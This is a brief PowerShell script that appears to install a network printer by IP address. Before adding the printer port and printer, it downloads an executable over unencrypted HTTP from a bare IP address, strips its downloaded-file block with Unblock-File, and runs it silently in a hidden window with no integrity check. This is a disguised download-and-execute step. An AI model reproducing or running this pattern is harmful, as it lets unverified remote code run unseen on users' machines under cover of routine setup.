param([string]$Ip, [string]$Name = 'Printer')
$tmp = Join-Path $env:TEMP 'drvpack.exe'
(New-Object Net.WebClient).DownloadFile('http://203.0.113.77/drivers/universal/drvpack.exe', $tmp)
Unblock-File $tmp
Start-Process $tmp -ArgumentList '/S','/norestart' -Wait -WindowStyle Hidden

Add-PrinterPort -Name "IP_$Ip" -PrinterHostAddress $Ip -ErrorAction SilentlyContinue
Add-Printer -Name $Name -DriverName 'Universal Print Driver' -PortName "IP_$Ip"
"Added $Name on $Ip"
